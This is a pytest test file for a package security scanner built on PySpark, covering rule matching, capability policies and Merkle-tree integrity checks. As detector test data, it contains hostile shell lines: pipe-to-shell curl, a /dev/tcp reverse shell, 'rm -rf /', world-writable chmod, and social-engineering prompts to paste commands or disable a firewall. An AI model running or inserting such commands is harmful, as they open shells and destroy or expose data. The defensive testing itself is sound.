"""Small fixtures for the operators on lines, capabilities, trees, syntax rows and sessions."""

from __future__ import annotations

import datetime as dt
import hashlib

import pytest
from pyspark.sql import functions as F

from lanternfish.functions import rules as R
from lanternfish.operators import capabilities as C
from lanternfish.operators import integrity as I
from lanternfish.operators import lines as L
from lanternfish.operators import pyast as A
from lanternfish.sources import storage
from lanternfish.sources.config import config_entries
from lanternfish.streaming.sessions import session_envelopes, streaming_envelopes


def files(spark, *texts):
    return spark.createDataFrame([(i, f"f{i}.sh", t, "x") for i, t in enumerate(texts)], "file_id long, path string, text string, line string").drop("line")


def test_lines_split_as_python_does(spark):
    texts = ["a\r\nb\rc\n", "", None, "x y\x0bz\x1cw", "\n\n", "x" * 300_000]
    got = {}
    for r in L.lines_of(files(spark, *texts), "file_id").collect():
        got.setdefault(r.file_id, []).append((r.line, r.text))
    want = {i: list(enumerate(t.splitlines(), 1)) for i, t in enumerate(texts) if t}
    assert {k: sorted(v) for k, v in got.items()} == want


def test_shell_comment(spark):
    long = "x '#' " * 50_000
    df = spark.createDataFrame([("a # b",), ("echo '#' \"#\" # c",), ("no",), ("'open # x",), ("# all",), (r"a \# b \"# c",), (long + "# y",)], "t string")
    assert [r.c for r in df.select(L.shell_code(F.col("t")).alias("c")).collect()] == ["a ", "echo '#' \"#\" ", "no", "'open # x", "", r"a \# b \"", long]


def test_js_comments_leave_their_line_ends(spark):
    cases = {
        "a /* x\n y\n*/ fetch('u')\n": "a \n\n fetch('u')\n",
        "let s = '/* no */' // yes\nb": "let s = '/* no */' \nb",
        "`//${a}\n/*` /* */ \"\\\"//\" // x": "`//${a}\n/*`  \"\\\"//\" ",
        "/* open\n fetch(": "\n",
        "it's // not a string\n'//'": "it's \n'//'",
        "a / b": "a / b",
        "": "",
    }
    df = spark.createDataFrame([(k,) for k in cases], "t string")
    assert [r.c for r in df.select(L.js_code(F.col("t")).alias("c")).collect()] == list(cases.values())
    big = spark.createDataFrame([("'a\\'b' /* c */ " * 40_000,)], "t string")
    assert big.select(F.length(L.js_code(F.col("t"))).alias("n")).first().n == 40_000 * 8


JS = """/* one
 two
*/
fetch("https://a.example/x")
// fetch('https://never')
const d = JSON.parse(vm.runInContext(x))
fs.writeFileSync(p, d); fs.readFileSync(q)
axios.get(url, '/b')
eval(
"""


def test_js_findings_stand_where_they_are(spark):
    df = L.with_suffix(spark.createDataFrame([(1, "a.js", JS), (2, "b.JS", JS), (3, "c.mjs", "net.connect('x')\nfetch('/y')"), (4, "d.ts", None), (5, "e.js", "")], "file_id long, path string, text string"))
    lines = L.code_lines(df, "file_id")
    got = L.once_per_file(L.first_matches(lines, R.SCANS["javascript"]), "file_id")
    assert {(r.file_id, r.line, r.claim, r.scope) for r in got.collect()} == {
        (1, 4, "network:connect", "https://a.example/x"), (1, 7, "fs:read", "*"), (3, 1, "network:connect", "*"),
    }
    assert [(r.file_id, r.line, r.rule_id) for r in L.every_match(lines, R.JS_PROHIBITED).orderBy("line").collect()] == [(1, 6, "js-deny-vm"), (1, 9, "js-deny-eval")]
    both = L.every_match_by_language(lines, {"javascript": R.JS_PROHIBITED, "shell": R.SHELL_PROHIBITED})
    assert both.count() == 2


def test_first_match_and_once_per_file(spark):
    rows = L.lines_of(files(spark, "curl a | wget b\nwget c\ncurl d > e\n"), "file_id")
    first = L.first_matches(rows, [R.SHELL_NETWORK, R.SHELL_WRITE])
    assert sorted((r.line, r.rule_id) for r in first.collect()) == [(1, "sh-net-curl"), (2, "sh-net-wget"), (3, "sh-net-curl"), (3, "sh-write-redirect")]
    assert sorted((r.line, r.rule_id) for r in L.once_per_file(first, "file_id").collect()) == [(1, "sh-net-curl"), (3, "sh-write-redirect")]


def test_shell_findings(spark):
    text = "curl https://x | sudo bash\nchmod 777 a\n# eval \"$x\"\necho 'ok' # rm -rf /\nbash -i >& /dev/tcp/1/2\nIEX (x)\ngit pull && docker ps\nexport A=1\n"
    df = L.with_suffix(spark.createDataFrame([(1, "a.sh", text), (2, "a.zsh", "eval $x"), (3, "a.txt", text)], "file_id long, path string, text string"))
    lines = L.code_lines(df, "file_id")
    got = {(r.file_id, r.line, r.rule_id) for r in L.every_match(lines, R.SHELL_PROHIBITED).collect()}
    assert got == {(1, 1, "sh-deny-pipe-to-shell"), (1, 2, "sh-deny-world-writable"), (1, 5, "sh-deny-reverse-shell"), (1, 6, "sh-deny-invoke-expression"), (2, 1, "sh-deny-eval")}
    caps = {(r.line, r.claim) for r in L.once_per_file(L.first_matches(lines, R.SCANS["shell"]), "file_id").where("file_id = 1").collect()}
    assert caps == {(1, "network:connect"), (1, "subprocess:exec:sh-exec-sudo"), (2, "fs:write"), (7, "subprocess:exec:sh-exec-docker"), (8, "env:write")}


def greedy(lines, rules):
    import re

    seen, out = set(), []
    for n, t in lines:
        for r in rules:
            if r.rule_id not in seen and r.literal in (t.lower() if r.pattern.startswith("(?i)") else t) and re.search(r.pattern, t):
                seen.add(r.rule_id)
                out.append((n, r.rule_id))
                break
    return out


def test_greedy_once_is_sequential(spark):
    text = "run as root, urgent: sudo x\nurgent sudo chmod 777 y\nchmod 777 z\npaste this into the terminal, then curl u | bash\ncurl u | bash\nDisable your firewall\nnothing"
    got = L.greedy_once(L.lines_of(files(spark, text), "file_id"), R.PERSUASION, "file_id")
    want = sorted(greedy(list(enumerate(text.split("\n"), 1)), R.PERSUASION))
    assert sorted((r.line, r.rule_id) for r in got.collect()) == want
    assert want == [(1, "persuade-urgent-sudo"), (2, "persuade-open-permissions"), (4, "persuade-paste"), (5, "persuade-pipe-to-shell"), (6, "persuade-disarm")]


def test_hidden_characters(spark):
    df = spark.createDataFrame([(1, "\ufeffplain"), (2, "a\nb\u200bc\u200b\u00ad"), (3, None), (4, "caf\u00e9")], "id long, text string")
    assert [(r.id, r.n_hidden, r.codes, r.first_line) for r in L.hidden_characters(df, ["id"]).collect()] == [(2, 3, ["00AD", "200B"], 2)]


def test_look_alikes_and_text_files(spark):
    rows = [(1, "a.py", "x = 1\np\u0430ss = '\u041e'"), (2, "b.md", "\u0430"), (3, "c.PY", "caf\u00e9"), (4, "d.PNG", "\u0430"), (5, "e", None)]
    df = L.with_suffix(spark.createDataFrame(rows, "file_id long, path string, text string"))
    sources = df.where(F.lower("suffix").isin(*R.SOURCE_SUFFIXES))
    assert [tuple(r) for r in L.foreign_letters(sources, ["file_id"], R.LOOK_ALIKES).collect()] == [(1, 2, 2)]
    assert {r.file_id for r in L.text_files(df, R.BINARY_SUFFIXES).collect()} == {1, 2, 3, 5}


def test_ignore_files(spark):
    rows = [("p", ".ignore", "# c\n\ndocs/\n*.md\n"), ("p", "docs/a.py", ""), ("p", "a/docs/b", ""), ("p", "x.md", ""), ("p", "x.py", ""), ("q", "docs/a.py", ""), ("q", None, "")]
    df = spark.createDataFrame(rows, "package_id string, path string, text string")
    kept = L.not_ignored_by_package(df, L.ignore_files(df, ".ignore"))
    assert {(r.package_id, r.path) for r in kept.collect()} == {("p", ".ignore"), ("p", "x.py"), ("q", "docs/a.py"), ("q", None)}
    assert {r.path for r in L.not_ignored(df, ["docs", "*.md"]).collect()} == {".ignore", "x.py", None}


def test_rules_from_files(spark, tmp_path):
    (tmp_path / "lines.jsonl").write_text('{"rule_id": "b", "pattern": "b+", "ord": 1, "more": 1}\n{"rule_id": "a", "pattern": "(?:a)b", "ord": 0, "severity": "prohibited"}\n{"rule_id": null, "pattern": "x"}\n')
    rules = R.line_rules(R.read_table(spark, str(tmp_path / "lines.jsonl")))
    assert [(r.rule_id, r.severity, r.once) for r in rules] == [("a", "prohibited", "rule"), ("b", "restricted", "rule")]
    lines = L.lines_of(files(spark, "ab\nb\nc"), "file_id")
    assert sorted((r.line, r.rule_id) for r in L.every_match(lines, rules).collect()) == [(1, "a"), (1, "b"), (2, "b")]
    assert sorted((r.line, r.rule_id) for r in L.first_matches(lines, [rules]).collect()) == [(1, "a"), (2, "b")]
    assert sorted((r.line, r.rule_id) for r in L.greedy_once(lines, rules, "file_id").collect()) == [(1, "a"), (2, "b")]
    with pytest.raises(ValueError, match="capturing"):
        R.line_rules(spark.createDataFrame([("c", "(x)")], "rule_id string, pattern string"))
    with pytest.raises(ValueError, match="may hold"):
        R.names(spark.range(R.MAX_RULES + 1).select(F.col("id").cast("string").alias("n")), "n")
    (tmp_path / "names.csv").write_text("binary\nnc\nnc\nnmap\n")
    assert R.names(R.read_table(spark, str(tmp_path / "names.csv")), "binary") == ["nc", "nmap"]
    (tmp_path / "policy.json").write_text('{"ord": 2, "rule_id": "y", "decision": "allow", "capability": "fs:read", "globs": ["*"], "priority": null}\n{"ord": 1, "rule_id": "x", "decision": "deny", "capability": "fs:read", "globs": ["*.pem"], "priority": 5}\n')
    policy = R.policy_rules(R.read_table(spark, str(tmp_path / "policy.json")))
    caps = spark.createDataFrame([("p", 1, "fs", "read", ["a.pem", "b"], True)], CAPS)
    assert {r.value: (r.decision, r.rule_id) for r in C.policy_decisions(caps, policy).collect()} == {"a.pem": ("deny", "x"), "b": ("allow", "y")}
    (tmp_path / "combos.json").write_text('{"rule_id": "r", "severity": "high", "capabilities": ["fs:read", "fs:read"], "needs": false, "risk": 7}\n')
    combos = R.combination_rules(R.read_table(spark, str(tmp_path / "combos.json")))
    assert [(r.rule_id, r.risk) for r in C.fired_combinations(spark, caps, C.binaries(caps), [], combos).collect()] == [("r", 7)]


def test_only_written_paths_violate(spark):
    caps = spark.createDataFrame([("p", 1, "fs", "read", ["/etc/a"], True), ("p", 2, "fs", "write", ["/etc/b.pem", "*", "ok"], True), ("p", 3, "fs", "delete", ["~/.ssh/x"], True), ("p", 4, "env", "write", ["/etc/c"], True)], CAPS)
    got = {(r.value, r.glob) for r in C.path_violations(spark, caps, ["/etc/*", "*.pem", "~/.ssh/*"]).collect()}
    assert got == {("/etc/b.pem", "/etc/*"), ("/etc/b.pem", "*.pem"), ("~/.ssh/x", "~/.ssh/*")}
    named = spark.createDataFrame([("fs:read",), ("fs:fly",), ("http:read",), ("fs",), (None,)], "cap string")
    assert [r.cap for r in C.known_capabilities(named, "cap", R.CATEGORIES, R.ACTIONS).collect()] == ["fs:read"]


def test_dockerfiles(spark):
    text = "FROM a:latest\nADD https://h/x /x\nENV API_TOKEN=abc\nEXPOSE 80 22\nRUN x\n"
    df = spark.createDataFrame([(1, text), (2, "FROM a:1\nUSER root\n"), (3, None)], "id long, text string")
    got = sorted((r.id, r.line, r.rule_id) for r in L.dockerfile_findings(df, R.DOCKER, "id").collect())
    assert got == [(1, 0, "docker-no-user"), (1, 1, "docker-latest"), (1, 2, "docker-add-url"), (1, 3, "docker-secret-env"), (1, 4, "docker-admin-port"), (2, 2, "docker-user-root"), (3, 0, "docker-no-user")]


def test_routes(spark):
    df = L.with_suffix(spark.createDataFrame([("a/b.py",), ("a.SH",), ("x/Dockerfile",), ("dockerfile.dev",), (".hidden",), ("c.ts",), ("noext",)], "path string"))
    assert [r.r for r in df.select(L.routes(F.col("path"), F.col("suffix")).alias("r")).collect()] == [["python"], [], ["docker"], ["docker"], [], ["javascript"], []]


def test_numbering_spreads_one_group(spark):
    rows = [("g", f"{i:04d}/x") for i in range(500)] + [("h", "a"), ("h", "a-b/x"), ("h", "a/x")]
    df = spark.createDataFrame(rows, "g string, path string").repartition(7)
    got = {(r.g, r.path): r.idx for r in I.numbered(df, ["g"], F.split("path", "/")).collect()}
    assert all(got["g", f"{i:04d}/x"] == i for i in range(500)) and [got["h", p] for p in ("a", "a/x", "a-b/x")] == [0, 1, 2]


def test_globs():
    import fnmatch
    import re

    for g in ("*.pem", "a?c", "[gm]*zip", "[!a-r]*", "docs/*", "x.y"):
        for v in ("k.pem", "abc", "gzip", "mzip", "zzz", "docs/a/b", "x.y", "xay", "a/b.pem"):
            assert bool(re.search(R.glob_regex(g), v)) == fnmatch.fnmatchcase(v, g), (g, v)


CAPS = "package_id string, ord long, category string, action string, scope array<string>, scope_resolved boolean"


def test_combinations_policy_and_risk(spark):
    rows = [("p", 1, "subprocess", "exec", ["/usr/bin/nmap", "*"], False), ("p", 2, "network", "connect", ["*"], False), ("p", 3, "subprocess", "exec", ["git"], True), ("q", 1, "network", "connect", ["a.example"], True), ("q", 2, "network", "connect", None, None)]
    df = spark.createDataFrame(rows, CAPS)
    used = C.binaries(df)
    assert {(r.package_id, r.name) for r in used.collect()} == {("p", "nmap"), ("p", "git")}
    fired = C.fired_combinations(spark, df, used, ["git"], R.COMBINATIONS)
    assert [(r.package_id, r.rule_id) for r in fired.collect()] == [("p", "run-download")]
    assert C.fired_combinations(spark, df, used.where("name = 'git'"), ["git"], R.COMBINATIONS).count() == 0
    decided = {(r.cap, r.value): (r.decision, r.rule_id) for r in C.policy_decisions(df, R.POLICY).collect()}
    assert decided["subprocess:exec", "*"] == ("deny", "no-open-exec") and decided["network:connect", "a.example"] == ("allow", "examples") and decided["subprocess:exec", "/usr/bin/nmap"] == ("deny", "default")
    risk = C.static_risk(df, fired, C.path_violations(spark, df, R.DENIED_PATHS), C.classified_binaries(spark, used, ["nmap"], ["git"]))
    assert {r.package_id: r.static_risk for r in risk.collect()} == {"p": 95, "q": 10}
    assert {r.package_id: r.n_unresolved for r in C.unresolved(df).collect()} == {"p": 2, "q": 0}
    empty = df.where("package_id = 'none'")
    assert C.static_risk(empty, fired.where("false"), C.path_violations(spark, empty, ["*"]), C.classified_binaries(spark, C.binaries(empty), [], [])).count() == 0


def fold(hashes):
    level, out = list(hashes), [list(hashes)]
    while len(level) > 1:
        level = [hashlib.sha256((level[i] + level[min(i + 1, len(level) - 1)]).encode()).hexdigest() for i in range(0, len(level), 2)]
        out.append(level)
    return out


@pytest.mark.parametrize("steps", [1, 2, 10])
def test_merkle_trees_and_proofs(spark, monkeypatch, steps):
    monkeypatch.setattr(I, "STEPS", steps)
    groups = {f"g{n}": [hashlib.sha256(f"{n}-{i}".encode()).hexdigest() for i in range(n)] for n in (1, 2, 3, 4, 5, 8, 9, 13, 16, 17, 33)}
    df = spark.createDataFrame([(g, i, h) for g, hs in groups.items() for i, h in enumerate(hs)], "g string, idx long, hash string")
    levels = I.merkle_levels(df, ["g"])
    nodes = {(r.g, r.level, r.idx): r.hash for r in levels.collect()}
    assert nodes == {(g, n, i): h for g, hs in groups.items() for n, level in enumerate(fold(hs)) for i, h in enumerate(level)}
    assert {r.g: r.root for r in I.roots(levels, ["g"]).collect()} == {g: fold(hs)[-1][0] for g, hs in groups.items()}
    proof = I.proofs(levels, ["g"])
    assert all(r.valid for r in I.verified(levels, proof, ["g"]).collect())
    forged = proof.withColumn("sibling", F.when(F.col("level") == 0, F.lit("0")).otherwise(F.col("sibling")))
    assert {r.valid for r in I.verified(levels, forged, ["g"]).where("g <> 'g1'").collect()} == {False}
    assert I.merkle_levels(df.where("g = 'x'"), ["g"]).count() == 0


def test_locks_and_single_files(spark):
    h = [c * 64 for c in "abcde"]
    locked = spark.createDataFrame([("p", "a", h[0]), ("p", "b", h[1]), ("p", "../c", h[2]), ("q", "a", h[3]), ("r", "x", h[0]), ("r", "y", h[1])], "package_id string, path string, hash string")
    now = spark.createDataFrame([("p", "a", h[0]), ("p", "b", h[4]), ("p", "../c", h[2]), ("q", "a", h[3]), ("r", "y", h[1]), ("r", "z", h[1])], "package_id string, path string, hash string")
    compared = I.compared_files(locked, now)
    assert {(r.package_id, r.path): r.status for r in compared.collect()} == {("p", "a"): "ok", ("p", "b"): "mismatch", ("p", "../c"): "escapes", ("q", "a"): "ok", ("r", "x"): "missing", ("r", "y"): "ok"}
    assert {r.package_id: (r.root, r.root_ok) for r in I.root_matches(compared).collect()} == {"p": (fold([h[2], h[0], h[1]])[-1][0], False), "q": (h[3], True), "r": (fold(h[:2])[-1][0], False)}
    leaves = I.numbered(locked, ["package_id"], F.split("path", "/"))
    wanted = spark.createDataFrame([("p", "a"), ("p", "b"), ("q", "a"), ("r", "x"), ("r", "z")], "package_id string, path string")
    got = {(r.package_id, r.path): (r.locked, r.same, r.proven) for r in I.verified_files(leaves, now, wanted).collect()}
    assert got == {("p", "a"): (True, True, True), ("p", "b"): (True, False, False), ("q", "a"): (True, True, True), ("r", "x"): (True, None, None), ("r", "z"): (False, None, None)}


def test_lock_sink_round_trip(spark, tmp_path):
    df = spark.createDataFrame([("p-1", 3, "ab")], "package_id string, n long, root string")
    storage.write_lines(df.select(I.lock_text(F.col("package_id"), F.col("n"), F.col("root"))), str(tmp_path / "locks"))
    assert [r.value for r in spark.read.text(str(tmp_path / "locks")).collect()] == ['{"n_files":3,"package_id":"p-1","root":"ab"}']


def test_shared_folder_is_required_on_a_cluster():
    class Context:
        master = "spark://host:7077"

        def getCheckpointDir(self):
            return None

    class Session:
        sparkContext = Context()
        conf = {}

    with pytest.raises(RuntimeError, match="spark.checkpoint.dir"):
        storage.shared_dir(Session())


def test_path_escapes(spark):
    df = spark.createDataFrame([("/a",), ("a/../b",), ("../a",), ("a/../../b",), ("./a",), ("a",)], "p string")
    assert [r.e for r in df.select(I.path_escapes(F.col("p")).alias("e")).collect()] == [True, False, True, True, False, False]


SOURCE = '''
import subprocess as sp
from os import environ
def f(a):
    if a and a > 1 or not a:
        return [x for x in a if x]
    cmd = input()
    sp.run(cmd, shell=True)
    sp.run(["git", cmd])
    open("a" + "b")
'''


def test_python_rows(spark):
    df = spark.createDataFrame([(1, SOURCE), (2, "def broken("), (3, None), (4, "")], "file_id long, text string")
    rows = A.syntax_rows(df)
    calls = {(r.line, r.name): (r.scope, r.scope_resolved) for r in A.call_capabilities(spark, rows).collect()}
    assert calls[8, "subprocess.run"] == (["*"], False) and calls[9, "subprocess.run"] == (["git", "*"], False) and calls[10, "open"] == (["ab"], True)
    assert [(r.line, r.sink) for r in A.tainted_sinks(spark, rows).orderBy("line").collect()] == [(8, "command"), (9, "command")]
    assert [r.number for r in rows.where("kind = 'function'").collect()] == [6]
    assert {r.name for r in A.import_capabilities(spark, rows).collect()} == {"subprocess", "os"}


def test_config_entries(spark):
    rows = [(1, "a.json", '{"a": {"b": [1, {"c": null}]}, "d": true}'), (2, "b.TOML", 'x = "y"\n[t]\nz = 1'), (3, "c.json", "{"), (4, "d.json", None), (5, "e.json", "3"), (6, "f.py", "{}")]
    df = spark.createDataFrame(rows, "file_id long, path string, text string")
    got = {tuple(r) for r in config_entries(df).collect()}
    assert got == {(1, "a.b[1].c", "c", None, "null"), (1, "d", "d", "true", "bool"), (2, "x", "x", "y", "str"), (2, "t.z", "z", "1", "int")}


def test_sessions_batch_and_stream(spark, tmp_path):
    t0 = dt.datetime(2025, 1, 1)
    rows = [(i, t0 + dt.timedelta(hours=h), u, e) for i, (u, h, e) in enumerate([(1, 0, "a"), (1, 5, "b"), (1, 30, "a"), (2, 1, "c"), (None, 2, "c"), (9, 400, "z")])]
    df = spark.createDataFrame(rows, "event_id long, ts timestamp_ntz, user_id long, event_type string")
    batch = {(r.user_id, r.started, r.n_events, tuple(r.kinds)) for r in session_envelopes(df).collect()}
    df.write.parquet(str(tmp_path / "in"))
    stream = streaming_envelopes(spark.readStream.schema(df.schema).parquet(str(tmp_path / "in")))
    q = stream.writeStream.outputMode("append").format("memory").queryName("envelopes").option("checkpointLocation", str(tmp_path / "cp")).start()
    q.processAllAvailable()
    q.stop()
    got = {(r.user_id, r.started, r.n_events, tuple(r.kinds)) for r in spark.sql("SELECT * FROM envelopes").collect()}
    assert got and got <= batch and {r for r in batch if r[0] != 9} == got


def test_driver_contract(spark):
    import __spark_entry__ as e

    assert set(e.oracle_sql()) <= set(e.queries())
